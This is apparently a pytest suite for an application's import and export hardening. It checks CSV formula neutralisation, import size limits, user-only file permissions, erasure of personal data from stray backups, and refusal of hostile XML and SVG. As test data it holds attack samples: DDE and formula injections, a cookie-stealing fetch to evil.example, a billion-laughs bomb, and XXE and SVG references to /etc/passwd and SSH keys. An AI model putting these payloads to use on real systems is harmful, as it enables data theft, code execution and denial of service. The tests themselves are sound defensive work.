"""Files from outside and files we leave behind (issue 14, items 6–10): exports that a spreadsheet would run,
tables built to exhaust the reader, data readable by other users, erased data lingering in stray files, and
XML that expands, fetches or runs."""

from __future__ import annotations

import csv
import io
import os
import signal
import stat
import subprocess
import sys
import time
import zipfile

import pytest

from ssd_starter.core.importer import MAX_ROWS, ImportRefused, read_table
from ssd_starter.export.graph import graph_bytes
from ssd_starter.store.districts import create_district
from ssd_starter.store.people import erase_person
from ssd_starter.store.stakeholders import (
    create_relation,
    get_stakeholder,
    list_relations,
    list_stakeholders,
)
from tests.helpers import add_actor as add


def csv_rows(data: bytes) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"), newline="")))


# -- 6. exported CSV must not run as formulas -------------------------------------------------

FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
            "\t=1+1", "\r=1+1"]


def test_csv_export_neutralises_cells_that_a_spreadsheet_would_run(store, district):
    first = add(store, district, FORMULAS[0], notes=FORMULAS[1], municipality=FORMULAS[2], influence=4,
                contact_person=FORMULAS[3], phone="+39 0461 000 111", consent=True)
    second = add(store, district, "Coop -Beta", notes="ok", consent=True)
    store.apply(create_relation(district, {"source_id": first, "target_id": second, "kind": "supplies",
                                           "notes": "=1+1"}))
    files = graph_bytes("csv", list_stakeholders(store, district), list_relations(store, district),
                        include_personal=True)
    actors = {row["id"]: row for row in csv_rows(files["-actors.csv"])}
    assert actors[first]["name"] == "'" + FORMULAS[0]
    assert actors[first]["notes"] == "'" + FORMULAS[1]
    assert actors[first]["municipality"] == "'" + FORMULAS[2]
    assert actors[first]["contact_person"] == "'" + FORMULAS[3]
    assert actors[first]["phone"] == "'+39 0461 000 111"
    assert actors[first]["influence"] == "4"  # a number stays a number
    assert actors[second]["name"] == "Coop -Beta"  # only the first character matters
    [relation] = csv_rows(files["-relations.csv"])
    assert relation["notes"] == "'=1+1" and relation["strength"].lstrip("-").isdigit()
    for data in files.values():
        for row in csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")):
            assert not any(cell[:1] in ("=", "+", "-", "@", "\t", "\r") for cell in row), row


def test_csv_export_neutralises_leading_tab_and_carriage_return():
    """The store trims what is typed, but a row can arrive untrimmed (a bundle, an older version)."""
    actor = {"id": "a1", "name": FORMULAS[4], "notes": FORMULAS[5], "category": "other", "roles": [],
             "influence": -3}
    files = graph_bytes("csv", [actor], [])
    [row] = csv_rows(files["-actors.csv"])
    assert row["name"] == "'" + FORMULAS[4] and row["notes"] == "'" + FORMULAS[5] and row["influence"] == "-3"


def test_safe_cell_leaves_numbers_and_plain_text_alone():
    from ssd_starter.export import spreadsheet_safe

    assert spreadsheet_safe(-5) == -5 and spreadsheet_safe(-2.5) == -2.5 and spreadsheet_safe(None) is None
    assert spreadsheet_safe("Coop Alfa") == "Coop Alfa" and spreadsheet_safe("") == ""
    assert spreadsheet_safe("-5") == "'-5"  # text that looks like a number is still text a formula may hide in


# -- 7. limits enforced while reading, not after ----------------------------------------------

def raw_xlsx(sheet_data: str) -> bytes:
    """A minimal workbook around ``sheet_data`` (the rows of its one sheet), written by hand: openpyxl
    would refuse to write what an attacker writes."""
    main = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
    rels = "http://schemas.openxmlformats.org/package/2006/relationships"
    office = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", (
            '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
            '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
            '<Default Extension="xml" ContentType="application/xml"/>'
            '<Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.'
            'spreadsheetml.sheet.main+xml"/><Override PartName="/xl/worksheets/sheet1.xml" ContentType='
            '"application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/></Types>'))
        archive.writestr("_rels/.rels", f'<?xml version="1.0"?><Relationships xmlns="{rels}"><Relationship '
                         f'Id="rId1" Type="{office}/officeDocument" Target="xl/workbook.xml"/></Relationships>')
        archive.writestr("xl/workbook.xml", f'<?xml version="1.0"?><workbook xmlns="{main}" xmlns:r="{office}">'
                         '<sheets><sheet name="S" sheetId="1" r:id="rId1"/></sheets></workbook>')
        archive.writestr("xl/_rels/workbook.xml.rels", f'<?xml version="1.0"?><Relationships xmlns="{rels}">'
                         f'<Relationship Id="rId1" Type="{office}/worksheet" Target="worksheets/sheet1.xml"/>'
                         '</Relationships>')
        archive.writestr("xl/worksheets/sheet1.xml", sheet_data if sheet_data.startswith("<?xml") else
                         f'<?xml version="1.0"?><worksheet xmlns="{main}"><sheetData>{sheet_data}'
                         '</sheetData></worksheet>')
    return out.getvalue()


def inline_cells(values) -> str:
    return "".join(f'<c t="inlineStr"><is><t>{v}</t></is></c>' for v in values)


def refused_quickly(path, match: str, seconds: float = 2.0) -> None:
    started = time.perf_counter()
    with pytest.raises(ImportRefused, match=match):
        read_table(path)
    elapsed = time.perf_counter() - started
    assert elapsed < seconds, f"refused only after {elapsed:.1f} s"


def test_a_csv_with_a_million_columns_is_refused_at_once(tmp_path):
    path = tmp_path / "wide.csv"
    path.write_text((",".join(["x"] * 1_000_000) + "\n") * 2)
    assert path.stat().st_size >= 4_000_000
    refused_quickly(path, "more than 200 columns")


def test_a_csv_whose_body_row_runs_to_a_million_columns_is_refused(tmp_path):
    path = tmp_path / "wide-body.csv"
    path.write_text("name;category\nCoop Alfa;cooperative\n" + ";".join(["x"] * 1_000_000) + "\n")
    refused_quickly(path, "more than 200 columns")


def test_a_csv_a_hair_too_wide_is_refused_and_trailing_empty_cells_are_not_columns(tmp_path):
    path = tmp_path / "201.csv"
    path.write_text(";".join(f"c{n}" for n in range(201)) + "\n" + ";".join("v" * 201) + "\n")
    with pytest.raises(ImportRefused, match="more than 200 columns"):
        read_table(path)
    path.write_text("name;category" + ";" * 5000 + "\nCoop Alfa;cooperative" + ";" * 5000 + "\n")
    table = read_table(path)
    assert table.headers[:2] == ["name", "category"] and table.rows[0][:2] == ["Coop Alfa", "cooperative"]


def test_a_csv_row_whose_columns_hide_behind_a_quoted_line_break_is_refused(tmp_path):
    """Each physical line stays under the limit; the record they make together does not."""
    path = tmp_path / "hidden.csv"
    half = ";".join(["v"] * 150)
    path.write_text("name;category\n" + half + ';"two\nlines";' + half + "\n")
    with pytest.raises(ImportRefused, match="more than 200 columns"):
        read_table(path)


def test_a_csv_of_millions_of_rows_is_refused_while_reading(tmp_path):
    path = tmp_path / "long.csv"
    path.write_bytes(b"name;category\n" + b"\n" * 15_000_000)
    refused_quickly(path, f"more than {MAX_ROWS} rows")
    path.write_bytes(b"name;category\n" + b"a;b\n" * (MAX_ROWS + 1))
    with pytest.raises(ImportRefused, match=f"more than {MAX_ROWS} rows"):
        read_table(path)


def test_an_xlsx_with_a_row_of_half_a_million_cells_is_refused_at_once(tmp_path):
    path = tmp_path / "wide.xlsx"
    path.write_bytes(raw_xlsx("<row>" + inline_cells(range(500_000)) + "</row>"))
    assert path.stat().st_size < 20 * 2**20
    refused_quickly(path, "more than 200 columns")


def test_an_xlsx_claiming_a_million_rows_is_refused(tmp_path):
    path = tmp_path / "tall.xlsx"
    cell = '<c r="{ref}" t="inlineStr"><is><t>v</t></is></c>'
    path.write_bytes(raw_xlsx('<row r="1">' + cell.format(ref="A1") + cell.format(ref="B1") + "</row>"
                              '<row r="1048576">' + cell.format(ref="A1048576") + "</row>"))
    refused_quickly(path, f"more than {MAX_ROWS} rows")


def test_an_xlsx_within_the_limits_still_reads(tmp_path):
    path = tmp_path / "ok.xlsx"
    header = "<row>" + inline_cells(["Name", "Category"] + [f"extra {n}" for n in range(198)]) + "</row>"
    body = "".join("<row>" + inline_cells([f"Coop {n}", "Cooperative"]) + '<c s="1"/>' * 300 + "</row>"
                   for n in range(3))
    path.write_bytes(raw_xlsx(header + body))
    table = read_table(path)
    assert len(table.headers) == 200 and [r[0] for r in table.rows] == ["Coop 0", "Coop 1", "Coop 2"]


def test_an_xlsx_wide_row_split_across_reads_is_still_counted(tmp_path):
    """The scan reads the sheet in pieces; cells cut at a piece's end must not slip through."""
    path = tmp_path / "split.xlsx"
    padding = '<c r="A1" t="inlineStr"><is><t>' + os.urandom(3 * 2**19).hex() + "</t></is></c>"  # 3 MB, no "<"
    # 150 cells, 3 MB of text, 150 more: no single read of 1 MB sees more than 200 of them
    path.write_bytes(raw_xlsx("<row>" + inline_cells(range(150)) + padding + inline_cells(range(150)) + "</row>"))
    refused_quickly(path, "more than 200 columns")


# -- 8. what we write is the user's alone, whatever the umask ---------------------------------

def mode(path) -> int:
    return stat.S_IMODE(path.stat().st_mode)


@pytest.fixture(params=[0o022, 0o000], ids=["umask-022", "umask-000"])
def umask(request):
    previous = os.umask(request.param)
    yield request.param
    os.umask(previous)


def test_data_folder_database_wal_shm_and_backups_are_created_user_only(umask, data_dir, tmp_path):
    from ssd_starter.store import Store
    from ssd_starter.store.backup import backup_folder, copy_database, make_backup

    assert not data_dir.exists()
    store = Store.open()
    try:
        store.apply(create_district("Private"))
        with store.read() as conn:  # an open connection keeps the WAL and its index on disk
            conn.exec_driver_sql("SELECT 1")
            sidecars = [store.path.with_name(store.path.name + s) for s in ("-wal", "-shm")]
            assert all(p.exists() for p in sidecars)
            assert {p.name: mode(p) for p in sidecars} == {p.name: 0o600 for p in sidecars}
        assert mode(data_dir) == 0o700 and mode(store.path) == 0o600
        backup = make_backup(store)
        assert mode(backup_folder(store)) == 0o700 and mode(backup) == 0o600
        moved = tmp_path / "elsewhere" / "ssd-starter.sqlite"
        copy_database(store.path, moved)
        assert mode(moved.parent) == 0o700 and mode(moved) == 0o600
    finally:
        store.close()
    assert not list(data_dir.glob(".backup-*"))


def test_a_restore_keeps_the_database_user_only(umask, store):
    from ssd_starter.store.backup import make_backup, restore

    backup = make_backup(store)
    path = store.path
    store.close()
    safety = restore(path, backup)
    assert mode(path) == 0o600 and mode(safety) == 0o600 and mode(safety.parent) == 0o700


def test_an_existing_world_readable_data_folder_and_database_are_tightened_on_open(data_dir):
    from ssd_starter.store import Store

    store = Store.open()
    store.apply(create_district("Old"))
    store.close()
    wal = store.path.with_name(store.path.name + "-wal")
    wal.write_bytes(b"")  # left by an older version, as readable as the rest
    backups = data_dir / "backups"
    backups.mkdir()
    for path, loose in ((data_dir, 0o755), (backups, 0o755), (store.path, 0o644), (wal, 0o644)):
        os.chmod(path, loose)
    reopened = Store.open()
    try:
        assert (mode(data_dir), mode(store.path)) == (0o700, 0o600)
        assert not wal.exists() or mode(wal) == 0o600
        from ssd_starter.store.backup import make_backup

        make_backup(reopened)
        assert mode(backups) == 0o700
    finally:
        reopened.close()


def test_exports_and_settings_are_written_user_only(umask, store, district, tmp_path):
    from ssd_starter.export.graph import export_graph
    from ssd_starter.files import write_atomically
    from ssd_starter.settings import Settings

    add(store, district, "Coop Alfa")
    written = export_graph(tmp_path / "out" / "map.csv", "csv", list_stakeholders(store, district), [])
    written.append(write_atomically(tmp_path / "out" / "doc.pdf", lambda tmp: open(tmp, "w").write("%PDF"), suffix=".pdf"))  # noqa: SIM115 - as reportlab does
    settings = Settings()
    settings.set("backups_keep", 3)
    assert {p.name: mode(p) for p in [*written, settings.path]} == {p.name: 0o600 for p in [*written, settings.path]}


# -- 9. erasure leaves the person in no file --------------------------------------------------

EMAIL, PHONE, NAME = "maria.rossi@example.org", "+39 0461 000 111", "Maria Rossi"
KILLED_MID_BACKUP = """
import os, signal, sys
from pathlib import Path
from ssd_starter.store import Store
from ssd_starter.store import backup

# the copy is complete, the rename into place never comes: what a kill -9 at the worst moment leaves
backup.os.replace = lambda *_args: os.kill(os.getpid(), signal.SIGKILL)
backup.make_backup(Store(Path(sys.argv[1])))
"""


def files_holding(folder, *secrets: str) -> dict[str, list[str]]:
    found: dict[str, list[str]] = {}
    for path in sorted(p for p in folder.rglob("*") if p.is_file()):
        data = path.read_bytes()
        hits = [s for s in secrets if s.encode() in data]
        if hits:
            found[str(path.relative_to(folder))] = hits
    return found


def kill_a_backup_half_way(store) -> list:
    result = subprocess.run([sys.executable, "-c", KILLED_MID_BACKUP, str(store.path)], timeout=60,
                            capture_output=True, text=True)
    assert result.returncode == -signal.SIGKILL, result.stderr
    return sorted((store.path.parent / "backups").glob(".backup-*.sqlite"))


def a_person_everyone_writes_about(store, district):
    from ssd_starter.store.canvas import create_card
    from ssd_starter.store.flows import create_flow
    from ssd_starter.store.stakeholders import update_stakeholder

    person = add(store, district, NAME, category="individual", email=EMAIL, phone=PHONE, consent=True)
    coop = add(store, district, "Coop Gamma", notes="Call Maria Rossi on 0461-000111 about the fair")
    shop = add(store, district, "Bottega Delta")
    store.apply(update_stakeholder(shop, notes=f"Old contact: {EMAIL}"))
    store.apply(update_stakeholder(shop, notes="Contact moved on"))  # the note before lives on in the history
    store.apply(create_relation(district, {"source_id": coop, "target_id": person, "kind": "supplies",
                                           "notes": f"she sends the list from {EMAIL.upper()}"}))
    store.apply(create_card(store, district, "partners", "maria rossi (mobile 0461 000 111)"))
    store.apply(create_flow(district, {"source_id": coop, "target_id": None, "kind": "goods", "value_eur": 10,
                                       "description": "Vegetables, order by phone: 39 0461 000 111"}))
    return person, coop, shop


def test_erasure_removes_the_copy_a_killed_backup_left_behind(store, district, data_dir):
    person = add(store, district, NAME, category="individual", email=EMAIL, phone=PHONE, consent=True)
    [stray] = kill_a_backup_half_way(store)
    assert EMAIL.encode() in stray.read_bytes()  # the stray copy is complete: it holds the e-mail
    result = erase_person(store, person)
    assert not stray.exists() and stray in result.removed_files
    assert files_holding(data_dir, EMAIL, PHONE, NAME) == {}
    assert result.files_still_holding == []


def test_erasure_reports_what_free_text_still_says_about_the_person(store, district, data_dir):
    person, coop, shop = a_person_everyone_writes_about(store, district)
    result = erase_person(store, person)
    where = {(m.table, m.field, m.in_history) for m in result.mentions}
    assert where == {("stakeholder", "notes", False), ("stakeholder", "notes", True), ("relation", "notes", False),
                     ("canvas_item", "text", False), ("flow", "description", False)}
    coop_note = next(m for m in result.mentions if m.row_id == coop)
    assert "Call Maria Rossi on 0461-000111" in coop_note.snippet and not result.cleared
    assert next(m for m in result.mentions if m.row_id == shop).in_history
    # not cleared: the user judges; the actor's own fields are gone all the same
    assert get_stakeholder(store, coop)["notes"].startswith("Call Maria Rossi")
    assert get_stakeholder(store, person)["email"] == ""


def test_erasure_clears_the_mentions_when_asked_and_then_no_file_holds_the_person(store, district, data_dir):
    person, coop, _shop = a_person_everyone_writes_about(store, district)
    kill_a_backup_half_way(store)
    result = erase_person(store, person, clear_mentions=True)
    assert result.cleared and len(result.mentions) == 5
    assert get_stakeholder(store, coop)["notes"] == "Call [erased] on [erased] about the fair"
    assert files_holding(data_dir, EMAIL, EMAIL.upper(), PHONE, NAME, "0461-000111", "0461 000 111",
                         "maria rossi") == {}
    assert result.files_still_holding == []


def test_erasure_names_the_files_it_may_not_judge(store, district, data_dir):
    import shutil

    person = add(store, district, NAME, category="individual", email=EMAIL, consent=True)
    store.checkpoint()
    aside = data_dir / "ssd-starter-damaged-20260101-120000.sqlite"  # what move_aside keeps of a damaged file
    shutil.copy(store.path, aside)
    result = erase_person(store, person)
    assert result.files_still_holding == [aside] and aside.exists()


def test_cli_erase_lists_the_mentions_dry_run_changes_nothing_and_clear_notes_clears(store, district, data_dir,
                                                                                     capsys):
    from ssd_starter.cli import main

    person, coop, _shop = a_person_everyone_writes_about(store, district)
    args = ["person", "erase", "--district", "Test", "--stakeholder", person]
    assert main([*args, "--dry-run"]) == 0
    out = capsys.readouterr().out
    assert "actor Coop Gamma, notes: Call Maria Rossi on 0461-000111" in out and "--clear-notes" in out
    assert "Dry run: nothing was changed." in out
    assert get_stakeholder(store, person)["email"] == EMAIL
    assert main([*args, "--clear-notes"]) == 0
    out = capsys.readouterr().out
    assert "Erased the personal data of Maria Rossi" in out and "replaced with “[erased]”" in out
    assert get_stakeholder(store, coop)["notes"] == "Call [erased] on [erased] about the fair"
    assert files_holding(data_dir, EMAIL, PHONE, NAME, "0461-000111") == {}


def test_cli_erase_without_clear_notes_says_what_is_left(store, district, capsys):
    from ssd_starter.cli import main

    person, coop, _shop = a_person_everyone_writes_about(store, district)
    assert main(["person", "erase", "--district", "Test", "--stakeholder", person]) == 0
    out = capsys.readouterr().out
    assert "left as it was" in out and "canvas card" in out
    assert get_stakeholder(store, coop)["notes"].startswith("Call Maria Rossi")


# -- 10. XML that expands, reaches out or runs ------------------------------------------------

def test_defusedxml_is_a_dependency_and_openpyxl_uses_it():
    import tomllib
    from pathlib import Path

    import openpyxl
    import openpyxl.xml

    pyproject = tomllib.loads((Path(__file__).resolve().parent.parent / "pyproject.toml").read_text("utf-8"))
    assert any(d.startswith("defusedxml") for d in pyproject["project"]["dependencies"])
    assert openpyxl.DEFUSEDXML is True and openpyxl.xml.DEFUSEDXML is True


LAUGHS = ('<!DOCTYPE lolz [<!ENTITY lol "lol">' + "".join(
    f'<!ENTITY lol{n} "{("&lol" + (str(n - 1) if n > 1 else "") + ";") * 10}">' for n in range(1, 10)) + "]>")


@pytest.mark.parametrize("attack", ["laughs", "external"])
def test_an_xlsx_with_xml_entities_is_refused_without_expanding_or_fetching(tmp_path, attack):
    secret = tmp_path / "secret.txt"
    secret.write_text("TOP-SECRET-LINE")
    doctype = LAUGHS if attack == "laughs" else f'<!DOCTYPE x [<!ENTITY xxe SYSTEM "file://{secret}">]>'
    entity = "&lol9;" if attack == "laughs" else "&xxe;"
    main = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
    sheet = (f'<?xml version="1.0"?>{doctype}<worksheet xmlns="{main}"><sheetData><row>'
             f'<c t="inlineStr"><is><t>Name</t></is></c><c t="inlineStr"><is><t>Category</t></is></c></row><row>'
             f'<c t="inlineStr"><is><t>{entity}</t></is></c><c t="inlineStr"><is><t>x</t></is></c>'
             "</row></sheetData></worksheet>")
    path = tmp_path / "entities.xlsx"
    path.write_bytes(raw_xlsx(sheet))
    refused_quickly(path, "entities", seconds=5)


def svg_pack(svg: bytes) -> bytes:
    from tests.core.test_training import SLIDES, build

    slides = SLIDES.replace("images/map.png", "images/picture.svg").encode()
    return build(extra={"images/picture.svg": svg, **{f"modules/mod_one/{lang}.md": slides for lang in LANGS}})


LANGS = ("it", "de", "en")
SVG = '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 10 10">{}</svg>'
HOSTILE_SVGS = {
    "script": '<script>fetch("http://evil.example/?" + document.cookie)</script>',
    "namespaced script": '<s:script xmlns:s="http://www.w3.org/2000/svg">alert(1)</s:script>',
    "event attribute": '<rect width="5" height="5" onload="alert(1)"/>',
    "event in capitals": '<rect width="5" height="5" ONCLICK="alert(1)"/>',
    "foreignObject": '<foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" src="http://evil.example"/>'
                     "</foreignObject>",
    "external image": '<image href="http://evil.example/track.png" width="5" height="5"/>',
    "local file": '<image xlink:href="file:///etc/passwd" width="5" height="5"/>',
    "relative file": '<image href="../../../.ssh/id_ed25519" width="5" height="5"/>',
    "javascript link": '<a xlink:href="javascript:alert(1)"><rect width="5" height="5"/></a>',
    "external use": '<use href="http://evil.example/sprites.svg#icon"/>',
    "nested svg data": '<image href="data:image/svg+xml;base64,PHN2Zz48c2NyaXB0Lz48L3N2Zz4=" width="5" height="5"/>',
    "css url": '<rect width="5" height="5" style="fill: url(http://evil.example/x)"/>',
    "style import": '<style>@import "http://evil.example/x.css";</style>',
    "style url": '<style>rect { fill: URL( "http://evil.example/x" ) }</style>',
    "animated href": '<a href="#ok"><set attributeName="href" to="javascript:alert(1)"/></a>',
    "stylesheet PI": None,
    "entity": None,
}


@pytest.mark.parametrize("kind", list(HOSTILE_SVGS))
def test_a_pack_whose_svg_could_run_or_fetch_something_is_refused(kind):
    from ssd_starter.core.training import PackRefused, ZipSource, read_pack

    if kind == "stylesheet PI":
        svg = '<?xml-stylesheet href="http://evil.example/x.css"?>' + SVG.format("<rect/>")
    elif kind == "entity":
        svg = '<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY e SYSTEM "file:///etc/passwd">]>' + SVG.format("&e;")
    else:
        svg = SVG.format(HOSTILE_SVGS[kind])
    with pytest.raises(PackRefused) as refused:
        read_pack(ZipSource(svg_pack(svg.encode())))
    assert "images/picture.svg" in refused.value.message()


def test_a_plain_svg_with_internal_references_and_embedded_pictures_is_accepted():
    from ssd_starter.core.training import ZipSource, read_pack
    from ssd_starter.store.training import shipped_pack

    pixel = "data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR4nGNgYGAAAAAFAAE="
    svg = SVG.format('<defs><linearGradient id="g"/></defs><rect width="5" height="5" fill="url(#g)"/>'
                     f'<use href="#g"/><image xlink:href="{pixel}" width="1" height="1"/>'
                     '<style>.c { fill: url(#g); stroke: #333 }</style>'
                     '<a href="#g"><text x="1" y="1">Online: see url(http://centre.example)</text></a>')
    pack = read_pack(ZipSource(svg_pack(('<?xml version="1.0" encoding="UTF-8"?>' + svg).encode())))
    assert "images/picture.svg" in pack.images
    assert shipped_pack().images  # the pictures shipped with the app pass the same check

